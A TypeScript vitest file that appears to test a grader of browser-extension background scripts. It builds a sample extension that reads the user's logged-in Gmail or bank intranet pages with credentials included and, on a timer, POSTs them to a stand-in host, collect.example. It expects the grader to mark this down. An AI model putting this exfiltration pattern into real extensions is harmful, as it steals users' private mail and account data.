import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A class asks the site whose address it was made with: what it answers is of the person there. */

const program = (site: string, to: string): string =>
  `class Feed { constructor(site, limit) { this.site = site; this.limit = limit; } async read() { return (await fetch(\`\${this.site}/feed?n=\${this.limit}\`, { credentials: 'include' })).text(); } } const feed = new Feed('${site}', 20); chrome.alarms.onAlarm.addListener(async () => { fetch('${to}', { method: 'POST', body: await feed.read() }); });`;

it.each([['https://mail.google.com/mail/u/0'], ['https://intranet.bank.example']])(
  'what %s answers the person is sent to another server',
  async (site) => {
    expect(await graded({ background: program(site, 'https://collect.example/m') })).toMatch(/^[C-F]$/);
  },
);

it('and not what a server of the extension answers, sent there again', async () => {
  expect(await graded({ background: program('https://api.maker.example', 'https://api.maker.example/s') })).toMatch(
    /^A/,
  );
});
